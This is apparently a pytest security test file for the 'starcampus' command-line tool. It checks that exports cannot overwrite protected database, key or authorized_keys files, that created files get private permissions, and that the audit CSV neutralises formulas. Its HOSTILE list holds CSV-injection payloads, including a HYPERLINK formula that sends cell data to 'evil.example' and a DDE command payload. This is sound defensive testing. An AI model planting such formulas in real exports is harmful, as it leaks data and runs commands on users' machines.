"""Issue 10, finding 9 and 12 and the Files part: no command writes onto the live database, its
-wal/-shm, the audit seal key or authorized_keys; exports replace a file only with --force; what the
program creates is 0600 in 0700 folders; the audit CSV holds no formula and still verifies.

Every attack runs the real ``starcampus`` command and checks the protected files byte for byte.
"""

from __future__ import annotations

import csv
import os
import re
import stat
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest

from tests.reliability.helpers import ADMIN, ROOT, build_campaign_db, copy_db
from tests.reliability.helpers import env as base_env

EXE = str(Path(sys.executable).with_name("starcampus"))
VIEWER = "sec-viewer"


@dataclass
class Site:
    """A server's files as docs/deploy-ssh.md sets them up, in a temp folder."""

    db: Path
    key: Path
    keys_file: Path

    def env(self, **extra: str) -> dict[str, str]:
        out = base_env()
        out.update(STARCAMPUS_AUDIT_KEY_FILE=str(self.key), STARCAMPUS_AUTHORIZED_KEYS=str(self.keys_file), **extra)
        return out

    def run(self, *args: str, as_user: str | None = ADMIN, db: Path | str | None = None,
            **extra: str) -> subprocess.CompletedProcess[str]:
        cmd = [EXE, "--db", str(db or self.db), "--lang", "en"] + (["--as", as_user] if as_user else [])
        return subprocess.run(cmd + list(args), capture_output=True, text=True, env=self.env(**extra), timeout=120)

    def protected(self) -> dict[Path, bytes]:
        """The live database (its -wal/-shm when present), the key and authorized_keys, as bytes."""
        files = [self.db, self.key, self.keys_file] + [Path(f"{self.db}{s}") for s in ("-wal", "-shm")]
        return {f: f.read_bytes() for f in files if f.exists()}


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("files") / "prepared.sqlite3"
    build_campaign_db(path, schools=2)
    from models.db import close_database, open_database
    from workflow.doors.users import add_user
    from workflow.permissions import Actor

    open_database(str(path))
    try:
        add_user(Actor(ADMIN, "admin"), VIEWER, "viewer")
    finally:
        close_database()
    return path


@pytest.fixture
def site(prepared: Path, tmp_path: Path) -> Iterator[Site]:
    data = tmp_path / "srv"
    data.mkdir()
    key = data / "audit.key"
    key.write_text("a" * 64 + "\n")
    keys_file = data / "authorized_keys"
    keys_file.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZha2Uta2V5LWZvci10ZXN0cw== officer\n")
    yield Site(copy_db(prepared, data / "starcampus.sqlite3"), key, keys_file)


def _refused(done: subprocess.CompletedProcess[str], *words: str) -> None:
    assert done.returncode != 0, f"not refused: {done.stdout}{done.stderr}"
    assert "Traceback" not in done.stderr, done.stderr
    for word in words:
        assert word in done.stderr, f"{word!r} not in {done.stderr!r}"


# -- Finding 9: no output onto the live database, the key, authorized_keys ---------------------------


def test_viewer_audit_export_onto_the_live_database_is_refused_and_the_database_is_untouched(site: Site) -> None:
    before = site.protected()
    _refused(site.run("audit", "export", "-o", str(site.db), as_user=VIEWER))
    assert site.protected() == before


@pytest.mark.parametrize("target", ["db", "db-wal", "db-shm", "key", "keys_file", "symlink", "hardlink"])
@pytest.mark.parametrize("verb", ["audit-export", "export-notice", "backup"])
def test_no_output_lands_on_a_protected_file(site: Site, target: str, verb: str) -> None:
    # Even the administrator, by a slip of the keyboard or through a link: refused by name, nothing written.
    paths = {"db": site.db, "db-wal": Path(f"{site.db}-wal"), "db-shm": Path(f"{site.db}-shm"),
             "key": site.key, "keys_file": site.keys_file}
    if target == "symlink":
        aimed = site.db.parent / "innocent.docx"
        aimed.symlink_to(site.db)
    elif target == "hardlink":
        aimed = site.db.parent / "innocent.docx"
        os.link(site.key, aimed)
    else:
        aimed = paths[target]
    before = site.protected()
    args = {"audit-export": ("audit", "export", "-o", str(aimed), "--force"),
            "export-notice": ("export", "notice", "-o", str(aimed), "--force"),
            "backup": ("backup", str(aimed), "--force")}[verb]
    done = site.run(*args)
    assert done.returncode != 0, f"{verb} wrote onto {target}: {done.stdout}"
    assert "Traceback" not in done.stderr, done.stderr
    if verb != "export-notice" or target in ("symlink", "hardlink"):  # a .docx name is checked first otherwise
        assert "nothing was written" in done.stderr, done.stderr
    assert site.protected() == before


@pytest.mark.parametrize("target", ["db", "key"])
def test_rubric_import_never_writes_onto_the_database_or_the_key(site: Site, target: str) -> None:
    # `rubric import` opens no database: the one STARCAMPUS_DB names is protected all the same.
    aimed = site.db if target == "db" else site.key
    before = site.protected()
    done = subprocess.run([EXE, "--lang", "en", "rubric", "import", str(site.db.parent / "table.docx"), "-o",
                           str(aimed), "--force", "--id", "t", "--name", "t", "--region", "r"],
                          capture_output=True, text=True, env=site.env(STARCAMPUS_DB=str(site.db)), timeout=120)
    _refused(done, str(aimed), "nothing was written")
    assert site.protected() == before


def test_any_authorized_keys_file_is_refused_by_name(site: Site, tmp_path: Path) -> None:
    other = tmp_path / "home" / ".ssh" / "authorized_keys"
    other.parent.mkdir(parents=True)
    other.write_text("ssh-ed25519 AAAA other\n")
    done = site.run("audit", "export", "-o", str(other), "--force")
    _refused(done, "authorized_keys", "nothing was written")
    assert other.read_text() == "ssh-ed25519 AAAA other\n"


# -- Exports refuse to replace an existing file unless --force ---------------------------------------


@pytest.mark.parametrize("verb", ["audit-export", "export-notice", "export-workbook", "backup"])
def test_existing_file_is_kept_without_force_and_replaced_with_it(site: Site, verb: str) -> None:
    suffix = {"audit-export": ".csv", "export-notice": ".docx", "export-workbook": ".xlsx", "backup": ".sqlite3"}[verb]
    out = site.db.parent / f"out{suffix}"
    out.write_bytes(b"an officer's own file")
    args = {"audit-export": ("audit", "export", "-o", str(out)),
            "export-notice": ("export", "notice", "-o", str(out)),
            "export-workbook": ("export", "workbook", "-o", str(out)),
            "backup": ("backup", str(out))}[verb]
    done = site.run(*args)
    _refused(done, str(out.resolve()), "--force")
    assert out.read_bytes() == b"an officer's own file"
    assert sorted(p.name for p in out.parent.iterdir() if p.name.startswith(".")) == []  # no temp file
    again = site.run(*args, "--force")
    assert again.returncode == 0, again.stderr
    assert out.read_bytes() != b"an officer's own file"


def test_the_app_gets_a_typed_refusal_for_an_existing_file(prepared: Path, tmp_path: Path) -> None:
    # The TUI's export dialog catches FileExists, asks, and calls run_export again with force=True.
    from models.db import close_database, open_database
    from tui.export_jobs import run_export
    from workflow.i18n import set_language
    from workflow.outputs import FileExists
    from workflow.permissions import Actor

    db = copy_db(prepared, tmp_path / "app.sqlite3")
    out = tmp_path / "通报.docx"
    out.write_bytes(b"kept")
    set_language("en")
    open_database(str(db))
    try:
        with pytest.raises(FileExists) as refused:
            run_export(Actor(ADMIN, "admin"), "notice", out)
        assert "already exists" in str(refused.value) and "已存在" in refused.value.message("zh")
        assert out.read_bytes() == b"kept"
        run_export(Actor(ADMIN, "admin"), "notice", out, force=True)
        assert out.read_bytes()[:2] == b"PK"
    finally:
        close_database()
        set_language("zh")


# -- Files created 0600 inside 0700 folders ----------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_the_program_creates_are_private(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    home.chmod(0o755)
    db = home / "data" / "county" / "starcampus.sqlite3"
    key = home / "config" / "starcampus" / "audit.key"
    env = dict(base_env(), STARCAMPUS_AUDIT_KEY_FILE=str(key), STARCAMPUS_AUTHORIZED_KEYS=str(home / "ak"))

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        done = subprocess.run([EXE, "--db", str(db), "--lang", "en", *args], capture_output=True, text=True,
                              env=env, timeout=120)
        assert done.returncode == 0, done.stderr
        return done

    # A umask as loose as a fresh account's: the program tightens its own at start.
    old = os.umask(0o022)
    try:
        run("demo", "load")
        run("audit", "init-key")
        run("export", "notice", "-o", str(home / "exports" / "2023" / "notice.docx"))
        run("audit", "export", "-o", str(home / "exports" / "audit.csv"))
        run("backup", str(home / "backups" / "b.sqlite3"))
    finally:
        os.umask(old)
    files = [db, db.with_name(db.name + "-writelock"),  # the writers' turn (models/write_lock.py)
             key, home / "exports" / "2023" / "notice.docx", home / "exports" / "audit.csv",
             home / "backups" / "b.sqlite3"]
    for file in files:
        assert _mode(file) == 0o600, f"{file}: {oct(_mode(file))}"
    for file in files:
        folder = file.parent
        while folder != home:
            assert _mode(folder) == 0o700, f"{folder}: {oct(_mode(folder))}"
            folder = folder.parent
    assert _mode(home) == 0o755  # a folder that was there already keeps its mode


def test_a_group_may_be_granted_by_setting(tmp_path: Path) -> None:
    db = tmp_path / "shared" / "starcampus.sqlite3"
    env = dict(base_env(), STARCAMPUS_FILE_ACCESS="group", STARCAMPUS_AUDIT_KEY_FILE=str(tmp_path / "k"))
    old = os.umask(0o022)
    try:
        done = subprocess.run([EXE, "--db", str(db), "demo", "load"], capture_output=True, text=True, env=env,
                              timeout=120)
    finally:
        os.umask(old)
    assert done.returncode == 0, done.stderr
    assert _mode(db) == 0o660 and _mode(db.parent) == 0o770
    assert _mode(db.with_name(db.name + "-writelock")) == 0o660  # every officer of the group takes its turn there


def test_drafts_are_private_even_without_the_umask(tmp_path: Path) -> None:
    from tui.drafts import Draft, save_draft

    old = os.umask(0o022)  # a library caller that never set one
    try:
        path = save_draft(Draft("officer", 1, 2, "R000", "self", {"1.1": "3"}), base=tmp_path / "drafts")
    finally:
        os.umask(old)
    assert _mode(path) == 0o600
    assert _mode(path.parent) == 0o700 and _mode(path.parent.parent) == 0o700


# -- Finding 12: the audit CSV holds no formula, and still verifies ----------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tleading tab", "\rleading return", "'already quoted", "plain reason"]


def _plant(db: Path) -> None:
    """Rows whose actor and reason start like formulas, as a school user could type them."""
    from models.db import close_database, open_database
    from workflow import audit
    from workflow.door import write
    from workflow.doors.users import add_user
    from workflow.permissions import Actor

    open_database(str(db))
    try:
        for n, text in enumerate(HOSTILE):
            name = f"=cmd{n}" if n % 2 else f"@user{n}"
            add_user(Actor(ADMIN, "admin"), name, "viewer")
            write(partial(audit.append, actor=name, action="test.note", reason=text))
    finally:
        close_database()


def _recipe(tmp_path: Path) -> Path:
    text = (ROOT / "docs" / "reliability.md").read_text(encoding="utf-8")
    found = re.search(r"<!-- audit-csv-recipe -->\s*```python\n(.*?)```", text, re.S)
    assert found, "docs/reliability.md has no audit-csv-recipe block"
    script = tmp_path / "verify_audit_csv.py"
    script.write_text(found.group(1), encoding="utf-8")
    return script


def test_audit_csv_neutralises_formula_prefixes_in_every_text_cell(site: Site) -> None:
    _plant(site.db)
    out = site.db.parent / "audit.csv"
    done = site.run("audit", "export", "-o", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula cell {cell!r} in {row}"
    reasons = {row[9] for row in rows[1:]}
    assert "'" + HOSTILE[0] in reasons and "''already quoted" in reasons and "plain reason" in reasons
    assert any(row[2] == "'=cmd1" for row in rows[1:]) and any(row[2] == "'@user0" for row in rows[1:])


def test_audit_csv_recipe_in_the_docs_verifies_the_export(site: Site, tmp_path: Path) -> None:
    _plant(site.db)
    out = site.db.parent / "audit.csv"
    assert site.run("audit", "export", "-o", str(out)).returncode == 0
    script = _recipe(tmp_path)
    checked = subprocess.run([sys.executable, str(script), str(out)], capture_output=True, text=True, timeout=60)
    assert checked.returncode == 0 and checked.stdout.startswith("intact: "), checked.stdout + checked.stderr
    rows = int(checked.stdout.split()[1])
    assert rows >= len(HOSTILE) * 2
    # Tampering with one planted reason in the file is caught at that row.
    text = out.read_text(encoding="utf-8-sig")
    forged = text.replace("plain reason", "plain reasons", 1)
    assert forged != text
    out.write_text(forged, encoding="utf-8-sig")
    broken = subprocess.run([sys.executable, str(script), str(out)], capture_output=True, text=True, timeout=60)
    assert broken.returncode != 0 and "broken at seq" in broken.stderr, broken.stdout + broken.stderr
